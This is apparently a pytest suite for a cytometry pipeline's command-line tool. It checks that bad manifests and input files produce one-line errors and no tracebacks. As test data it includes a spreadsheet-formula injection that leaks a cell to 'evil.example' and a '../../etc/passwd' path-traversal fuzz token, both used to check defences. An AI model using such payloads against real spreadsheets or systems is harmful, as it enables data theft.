"""Every bad input of `cytowhim run` named in one line (issue 13 items 2 and 3): a manifest the
run cannot start without is exit 2, a bad row or file is a line of errors.csv while the rest is
processed (exit 1), and no input ends in a traceback (``--debug`` shows them). The Dask scheduler
that cannot be reached is in tests/test_dask.py."""

from __future__ import annotations

import os
import shutil
import stat
import subprocess
import sys
import tempfile
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cytowhim.cli import main
from cytowhim.manifest import ManifestError, read_manifest

from .conftest import REPO


@pytest.fixture(scope="module")
def batch(tmp_path_factory) -> Path:
    """3 healthy specimens x 3 tubes, small; a run of them has no error (exit 0)."""
    from cytowhim.simulate import simulate

    out = tmp_path_factory.mktemp("inputs")
    simulate(out, "healthy", seed=1, n_healthy=3, events=(5000, 6000))
    return out


@pytest.fixture(scope="module")
def clean(batch, tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("clean") / "out"
    assert main(["run", str(batch / "manifest.csv"), "--out", str(out), "-q"]) == 0
    return out


def _lines(batch: Path) -> list[str]:
    return (batch / "manifest.csv").read_text(encoding="utf-8").splitlines()


def _write(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _run(manifest: Path, out: Path, capsys, *extra: str) -> tuple[int, list[str]]:
    code = main(["run", str(manifest), "--out", str(out), "-q", *extra])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err.strip().splitlines()


def _errors(out: Path) -> list[str]:
    return list(pd.read_csv(out / "errors.csv")["error"])


# --- manifests the run cannot start without: one line, exit 2 -----------------------------------


def test_semicolon_and_tab_separated_manifests_are_read_like_commas(batch):
    lines = _lines(batch)
    want, problems = read_manifest(batch / "manifest.csv")
    assert not problems
    for name, sep in (("semicolon.csv", ";"), ("tab.tsv", "\t"), ("tab.txt", "\t")):
        path = _write(batch / name, [line.replace(",", sep) for line in lines])
        got, problems = read_manifest(path)
        assert not problems
        pd.testing.assert_frame_equal(got, want)


def _bad_manifests(batch: Path) -> dict[str, tuple[Path, str]]:
    """name -> (manifest, what its one line must say)."""
    lines = _lines(batch)
    header = lines[0].split(",")
    folder = batch / "bad"
    folder.mkdir(exist_ok=True)
    rng = __import__("random").Random(13)
    out = {}
    out["missing column"] = (
        _write(folder / "nocol.csv", [",".join(c for c in ln.split(",")[:4]) for ln in lines]),
        "missing columns ['tube']",
    )
    (folder / "garbage.csv").write_bytes(bytes(rng.randrange(256) for _ in range(4000)))
    out["binary garbage"] = (folder / "garbage.csv", "is not text")
    (folder / "nuls.csv").write_bytes(b"\0" * 500)
    out["NUL bytes"] = (folder / "nuls.csv", "binary data")
    (folder / "cp1252.csv").write_bytes(bytes(range(0x20, 0x7F)) + b"\x01\x02\n" * 3)
    out["control characters"] = (folder / "cp1252.csv", "binary data")
    (folder / "workbook.csv").write_bytes(b"PK\x03\x04" + b"\0" * 100)
    out["a workbook named .csv"] = (folder / "workbook.csv", "give it its .xlsx")
    out["duplicated CBC column"] = (
        _write(folder / "dupcol.csv", [lines[0] + ",ALC"] + [ln + ",7" for ln in lines[1:]]),
        "columns ['ALC'] appear twice",
    )
    alc = header.index("ALC")
    out["CBC column twice under two units"] = (
        _write(
            folder / "dupunit.csv",
            [lines[0] + ",ALC (x10^3/uL)"]
            + [ln + "," + str(float(ln.split(",")[alc]) / 1000) for ln in lines[1:]],
        ),
        "columns ['ALC'] appear twice",
    )
    out["empty"] = (_write(folder / "empty.csv", ["", "# nothing"]), "empty")
    out["a folder"] = (folder, "not a regular file")
    out["missing"] = (folder / "none.csv", "manifest not found")
    return out


BAD = [
    "missing column",
    "binary garbage",
    "NUL bytes",
    "control characters",
    "a workbook named .csv",
    "duplicated CBC column",
    "CBC column twice under two units",
    "empty",
    "a folder",
    "missing",
]


@pytest.mark.parametrize("case", BAD)
def test_a_manifest_the_run_cannot_use_is_one_line_and_exit_2(batch, tmp_path, capsys, case):
    manifest, says = _bad_manifests(batch)[case]
    out = tmp_path / "out"
    code, err = _run(manifest, out, capsys)
    assert code == 2 and len(err) == 1, err
    assert err[0].startswith(f"cytowhim: {manifest}") and says in err[0], err
    assert not out.exists()  # refused before anything was written


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs")
def test_a_fifo_as_manifest_is_refused_without_blocking(tmp_path, capsys):
    os.mkfifo(tmp_path / "manifest.csv")
    code, err = _run(tmp_path / "manifest.csv", tmp_path / "out", capsys)
    assert code == 2 and err == [
        f"cytowhim: {tmp_path / 'manifest.csv'}: the manifest is not a regular file"
    ]


@pytest.mark.parametrize("jobs", ["0", "-1", "two", "1.5"])
def test_jobs_below_one_is_a_usage_error(batch, tmp_path, capsys, jobs):
    with pytest.raises(SystemExit) as exc:
        main(["run", str(batch / "manifest.csv"), "--out", str(tmp_path / "o"), "--jobs", jobs])
    assert exc.value.code == 2
    assert "--jobs" in capsys.readouterr().err
    from cytowhim.run import run_manifest

    with pytest.raises(ValueError, match="jobs=0"):
        run_manifest(batch / "manifest.csv", jobs=0)


def test_debug_shows_the_traceback(batch, tmp_path, capsys):
    manifest, _ = _bad_manifests(batch)["missing column"]
    assert main(["--debug", "run", str(manifest), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "Traceback" in err and "ManifestError" in err and "missing columns" in err
    assert main(["run", str(manifest), "--out", str(tmp_path / "o"), "--debug"]) == 2
    assert "Traceback" in capsys.readouterr().err


def test_an_unexpected_error_is_one_line_and_debug_raises_it(batch, tmp_path, capsys, monkeypatch):
    import cytowhim.run

    def broken(*args, **kwargs):
        raise ZeroDivisionError("simulated bug")

    monkeypatch.setattr(cytowhim.run, "run_manifest", broken)
    code, err = _run(batch / "manifest.csv", tmp_path / "o", capsys)
    assert code == 2 and len(err) == 1
    assert "unexpected ZeroDivisionError: simulated bug" in err[0] and "--debug" in err[0]
    with pytest.raises(ZeroDivisionError):
        main(["--debug", "run", str(batch / "manifest.csv"), "--out", str(tmp_path / "o")])


# --- bad rows and files: named in errors.csv, the rest processed (exit 1) ------------------------


def test_a_duplicated_manifest_row_is_named_and_read_once(batch, clean, tmp_path, capsys):
    """Issue 13: a repeated row ended in a QCError traceback and lost the batch."""
    lines = _lines(batch)
    manifest = _write(batch / "dup-row.csv", [*lines, lines[2]])
    code, _ = _run(manifest, tmp_path / "out", capsys)
    assert code == 1
    assert _errors(tmp_path / "out") == [
        f"{manifest}: row {len(lines) + 1} (specimen H1): the row repeats row 3 (tube B) cell "
        "for cell; the repeat is not read: remove it"
    ]
    pop = (tmp_path / "out" / "populations.csv").read_bytes()
    assert pop == (clean / "populations.csv").read_bytes()


def test_one_tube_on_two_rows_with_other_files_leaves_the_specimen_out(batch, tmp_path, capsys):
    lines = _lines(batch)
    other = lines[2].replace("H1_B.fcs", "H2_B.fcs")
    code, _ = _run(_write(batch / "dup-tube.csv", [*lines, other]), tmp_path / "out", capsys)
    assert code == 1
    (error,) = _errors(tmp_path / "out")
    assert (
        f"row {len(lines) + 1} (specimen H1), column tube: tube B of specimen H1 is also" in error
    )
    assert "row 3" in error
    table = pd.read_csv(tmp_path / "out" / "populations.csv")
    assert set(table.specimen) == {"H2", "H3"}


def test_one_specimen_id_for_two_patients_is_named_per_row(batch, tmp_path, capsys):
    lines = _lines(batch)
    lines[3] = lines[3].replace(",H1,healthy,", ",H9,healthy,")  # H1's mono tube: patient H9
    assert ",H9," in lines[3]
    code, _ = _run(_write(batch / "two-patients.csv", lines), tmp_path / "out", capsys)
    assert code == 1
    (error,) = _errors(tmp_path / "out")
    assert "row 4 (specimen H1), column patient: specimen H1 is patient 'H1' on row 2 and 'H9'" in (
        error
    )
    assert set(pd.read_csv(tmp_path / "out" / "populations.csv").specimen) == {"H2", "H3"}


def test_a_nul_in_a_specimen_id_is_refused_naming_the_row(batch, tmp_path, capsys):
    lines = _lines(batch)
    lines[4] = lines[4].replace(",H2,H2,", ",H\x002,H2,", 1)
    code, _ = _run(_write(batch / "nul.csv", lines), tmp_path / "out", capsys)
    assert code == 1
    (error,) = _errors(tmp_path / "out")
    assert "row 5 (specimen H\\x002), column specimen: 'H\\x002' holds the control" in error
    assert "character U+0000 (NUL)" in error
    table = pd.read_csv(tmp_path / "out" / "populations.csv")
    assert set(zip(table.specimen, table.tube)) == {
        (s, t) for s in ("H1", "H2", "H3") for t in ("T", "B", "mono")
    } - {("H2", "T")}


def test_ids_of_any_length_and_script_are_stored(batch, clean, tmp_path, capsys):
    """Issue 13: a 300-character id (or 50 CJK characters) failed 'name too long' in h5py and lost
    the whole batch."""
    from cytowhim.store import read_results

    long_id, cjk = "X" * 300, "\u60a3\u8005\u6a19\u672c" * 12 + "\u8840\u6db2"
    lines = [
        ln.replace(",H1,H1,", f",{long_id},H1,").replace(",H2,H2,", f",{cjk},H2,")
        for ln in _lines(batch)
    ]
    manifest = _write(batch / "ids.csv", lines)
    code, _ = _run(manifest, tmp_path / "out", capsys)
    assert code == 0
    table = pd.read_csv(tmp_path / "out" / "populations.csv", keep_default_na=False)
    want = pd.read_csv(clean / "populations.csv", keep_default_na=False)
    want["specimen"] = want.specimen.replace({"H1": long_id, "H2": cjk})
    pd.testing.assert_frame_equal(table, want)
    assert read_results(tmp_path / "out" / "results.h5").specimens() == [long_id, cjk, "H3"]
    gated = []
    from cytowhim.run import run_manifest

    run_manifest(manifest, out=tmp_path / "out", progress=gated.append)
    assert gated == []  # the parts are found again


def test_a_formula_as_specimen_id_reaches_no_spreadsheet(batch, clean, tmp_path, capsys):
    """The run's CSV files go through cytowhim.spreadsheet (a leading apostrophe); results.h5
    keeps the id as written."""
    from cytowhim.store import read_results

    formula = '=HYPERLINK("http://evil.example/?"&A1, "results")'
    lines = [
        ln.replace(",H1,H1,", f',"{formula.replace(chr(34), 2 * chr(34))}",H1,')
        for ln in _lines(batch)
    ]
    code, _ = _run(_write(batch / "formula.csv", lines), tmp_path / "out", capsys)
    assert code == 0
    table = pd.read_csv(tmp_path / "out" / "populations.csv", keep_default_na=False)
    assert set(table.specimen) == {"'" + formula, "H2", "H3"}
    assert read_results(tmp_path / "out" / "results.h5").specimens()[0] == formula


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs")
def test_a_fifo_given_as_an_fcs_file_is_named_and_the_rest_processed(batch, tmp_path):
    """Issue 13: a FIFO as FCS file blocked the run forever."""
    folder = tmp_path / "batch"
    shutil.copytree(batch, folder)
    (folder / "H2_B.fcs").unlink()
    os.mkfifo(folder / "H2_B.fcs")
    (folder / "H3_T.fcs").unlink()
    (folder / "H3_T.fcs").mkdir()
    out = tmp_path / "out"
    proc = subprocess.run(
        [sys.executable, str(REPO / "cli.py"), "run", str(folder / "manifest.csv"), "-o", str(out)],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    assert stat.S_ISFIFO(os.stat(folder / "H2_B.fcs").st_mode)
    assert _errors(out) == [
        f"{folder / 'H2_B.fcs'}: not a regular file (a named pipe (FIFO)); give the FCS file itself",
        f"{folder / 'H3_T.fcs'}: not a regular file (a folder); give the FCS file itself",
    ]
    table = pd.read_csv(out / "populations.csv")
    assert len(set(zip(table.specimen, table.tube))) == 7


def test_an_unexpected_error_on_one_file_leaves_the_others(
    batch, clean, tmp_path, capsys, monkeypatch
):
    import cytowhim.fcs

    real = cytowhim.fcs.read_fcs

    def read_fcs(path, *args, **kwargs):
        if Path(path).name == "H3_mono.fcs":
            raise ZeroDivisionError("simulated bug")
        return real(path, *args, **kwargs)

    monkeypatch.setattr(cytowhim.fcs, "read_fcs", read_fcs)
    code, _ = _run(batch / "manifest.csv", tmp_path / "out", capsys)
    assert code == 1
    (error,) = _errors(tmp_path / "out")
    assert "H3_mono.fcs: cannot be gated (ZeroDivisionError: simulated bug)" in error
    table = pd.read_csv(tmp_path / "out" / "populations.csv")
    want = pd.read_csv(clean / "populations.csv")
    pd.testing.assert_frame_equal(
        table, want[~((want.specimen == "H3") & (want.tube == "mono"))].reset_index(drop=True)
    )


# --- fuzz -----------------------------------------------------------------------------------------

_TOKENS = st.sampled_from(
    [
        "file",
        "specimen",
        "patient",
        "timepoint",
        "tube",
        "WBC",
        "ANC",
        "ALC",
        "AMC",
        "ALC (x10^3/uL)",
        "units",
        "decimal",
        "age",
        "sex",
        "birth_date",
        "draw_date",
        "beads_per_tube",
        "volume_uL",
        "a.fcs",
        "S1",
        "P1",
        "T",
        "1,5",
        "1.5",
        "-3",
        "nan",
        "inf",
        "1e308",
        "2024-02-30",
        "F",
        "x",
        "",
        " ",
        '"',
        "#",
        "\x00",
        "\u00b5",
        "\ufeff",
        '=HYPERLINK("x")',
        "../../etc/passwd",
    ]  # fmt: skip
)
_SEPARATORS = st.sampled_from([",", ";", "\t", ",", "\n", "\r\n", '"'])
_MANIFEST = st.lists(st.one_of(_TOKENS, _SEPARATORS, st.text(max_size=4)), max_size=80).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    text=_MANIFEST, header=st.booleans(), encoding=st.sampled_from(["utf-8", "cp1252", "utf-16"])
)
def test_read_manifest_fuzz_only_raises_manifest_errors(text, header, encoding):
    if header:
        text = "file,specimen,patient,timepoint,tube,WBC,ANC,ALC,AMC\n" + text
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.csv"
        path.write_bytes(text.encode(encoding, "replace"))
        try:
            tubes, problems = read_manifest(path)
        except ManifestError as exc:
            assert "\n" not in str(exc).strip() and str(path) in str(exc)
            return
        for p in problems:
            assert "\x00" not in str(p)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(text=_MANIFEST)
def test_run_fuzz_exits_0_1_or_2_without_a_traceback(text, capsys):
    """capsys is read (and so emptied) on every example."""
    text = "file,specimen,patient,timepoint,tube,WBC,ANC,ALC,AMC\n" + text
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "m.csv"
        path.write_text(text, encoding="utf-8")
        code = main(["run", str(path), "--out", str(Path(folder) / "out"), "-q"])
        err = capsys.readouterr().err
        assert code in (0, 1, 2) and "Traceback" not in err and "unexpected" not in err, err
